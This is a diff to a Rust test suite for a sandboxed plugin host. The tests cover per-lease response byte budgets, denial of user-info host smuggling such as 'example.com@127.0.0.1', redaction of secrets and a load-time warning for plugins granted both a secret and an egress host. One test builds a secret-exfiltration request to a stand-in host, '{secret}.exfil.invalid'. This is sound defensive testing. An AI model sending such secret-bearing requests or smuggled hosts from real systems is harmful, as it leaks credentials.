@@ -254,6 +254,48 @@ async fn oversized_bodies_stop_at_the_response_limit() {
     );
 }
 
+/// 32 requests in flight at once draw on one response budget: the lease
+/// receives at most its limit in all, not the limit per request.
+#[tokio::test]
+async fn concurrent_responses_share_one_byte_budget_per_lease() {
+    let server = TestServer::start().await;
+    let limit = 256 << 10;
+    let g = net(
+        &[&server.grant()],
+        Limits {
+            http_response_bytes: limit,
+            ..test_limits()
+        },
+    );
+    let leased = fetch_all(&g, &server.url(&format!("/big/{}", 64 << 10)), 32).await;
+    let out = output(&leased);
+    let received = out["bytes"].as_u64().unwrap();
+    assert!(received <= limit, "{received} bytes received");
+    let errors = out["errors"].as_array().unwrap();
+    assert!(
+        errors.len() >= 32 - 4,
+        "the bodies past the budget fail: {out}"
+    );
+    assert!(
+        errors[0].as_str().unwrap().contains("response body size"),
+        "{out}"
+    );
+    let network = leased.receipt.network.as_ref().unwrap();
+    assert_eq!(network.requests, 32);
+    assert!(network.bytes_in <= limit, "{network:?}");
+    // A new lease has the whole budget again.
+    let leased = fetch_all(&g, &server.url(&format!("/big/{}", 64 << 10)), 4).await;
+    assert_eq!(output(&leased)["bytes"], 4 * (64 << 10));
+}
+
+async fn fetch_all(
+    g: &GrantedComponent,
+    url: &str,
+    count: u32,
+) -> Leased<Result<wit::ToolOutput, wit::ToolError>> {
+    invoke(g, "fetch_all", json!({ "url": url, "count": count })).await
+}
+
 #[tokio::test]
 async fn the_request_limit_is_per_lease() {
     let server = TestServer::start().await;
@@ -326,23 +368,106 @@ async fn hand_built_requests_cannot_smuggle_another_host() {
         );
     }
     assert_eq!(server.connections(), 0);
-    // User info in front of the granted host reaches only the granted host.
+    // User info in front of the granted host would reach the server in the
+    // `host` header: refused before anything leaves, and the receipt's
+    // target leaves the user info out.
+    for userinfo in ["example.com", "user:pw", "user"] {
+        let leased = invoke(
+            &g,
+            "raw",
+            raw(
+                format!("{userinfo}@127.0.0.1:{port}"),
+                Some("/echo"),
+                json!([]),
+            ),
+        )
+        .await;
+        let message = failed(&leased);
+        assert!(message.contains("HttpRequestDenied"), "{message}");
+        assert_eq!(reasons(&leased), [DenialReason::UserInfo]);
+        let network = leased.receipt.network.as_ref().unwrap();
+        assert_eq!(network.denials[0].target, server.url(""));
+        assert!(network.hosts.is_empty());
+    }
+    assert_eq!(server.connections(), 0);
+    // The same request without user info goes through.
     let leased = invoke(
         &g,
         "raw",
-        raw(
-            format!("example.com@127.0.0.1:{port}"),
-            Some("/echo"),
-            json!([]),
-        ),
+        raw(format!("127.0.0.1:{port}"), Some("/echo"), json!([])),
     )
     .await;
     assert_eq!(output(&leased)["status"], 200);
     assert_eq!(server.seen().len(), 1);
-    assert_eq!(
-        leased.receipt.network.as_ref().unwrap().hosts,
-        [server.grant()]
+}
+
+/// What the guest asked for may hold a secret: a denied target is
+/// redacted in the receipt, the tool's error and the host's logs.
+#[tokio::test]
+async fn a_denied_targets_secret_is_redacted_in_the_receipt_and_the_logs() {
+    let secret = "sk-live-0123456789";
+    let logs = crate::Logs::capture();
+    let g = sandbox().grant(
+        net_component(),
+        Capabilities::none().env("API_TOKEN", secret),
+        test_limits(),
     );
+    let leased = fetch(
+        &g,
+        json!({ "url": format!("https://{secret}.exfil.invalid/") }),
+    )
+    .await;
+    let message = denied(&leased);
+    assert!(!message.contains(secret), "{message}");
+    let network = leased.receipt.network.as_ref().unwrap();
+    assert_eq!(
+        network.denials[0].target,
+        "https://[redacted:API_TOKEN].exfil.invalid:443"
+    );
+    let receipt = serde_json::to_string(&leased.receipt).unwrap();
+    assert!(!receipt.contains(secret), "{receipt}");
+    let text = logs.text();
+    assert!(text.contains("outbound request denied"), "{text}");
+    assert!(!text.contains(secret), "{text}");
+}
+
+/// Redaction cannot catch a secret a plugin encodes itself, so holding a
+/// secret and a way out is made visible when the plugin is loaded.
+#[tokio::test]
+async fn a_plugin_granted_a_secret_and_an_egress_path_is_warned_about_at_load() {
+    let dir = tempfile::tempdir().unwrap();
+    let source = crate::narrowed::manifest(
+        dir.path(),
+        "net",
+        "tool",
+        guests::NET,
+        "env = [\"API_TOKEN\"]\nhosts = [\"api.example.com\"]\n",
+    );
+    let host = warden::plugins::PluginHost::new(sandbox().clone());
+    let env = |_: &str| Some("sk-live-0123456789".to_owned());
+    let logs = crate::Logs::capture();
+    let grant = |text: &str| -> warden::policy::Grant { toml::from_str(text).unwrap() };
+    host.load_with_env(&source, &grant("env = [\"API_TOKEN\"]\n"), dir.path(), env)
+        .await
+        .unwrap();
+    assert!(!logs.text().contains("a way out"), "{}", logs.text());
+    host.load_with_env(
+        &source,
+        &grant("env = [\"API_TOKEN\"]\nhosts = [\"api.example.com\"]\n"),
+        dir.path(),
+        env,
+    )
+    .await
+    .unwrap();
+    let text = logs.text();
+    let warning = text
+        .lines()
+        .find(|l| l.contains("is granted a secret and a way out"))
+        .unwrap_or_else(|| panic!("{text}"));
+    assert!(warning.contains("WARN"), "{warning}");
+    assert!(warning.contains("API_TOKEN"), "{warning}");
+    assert!(warning.contains("host `api.example.com`"), "{warning}");
+    assert!(!text.contains("sk-live-0123456789"), "{text}");
 }
 
 #[tokio::test]
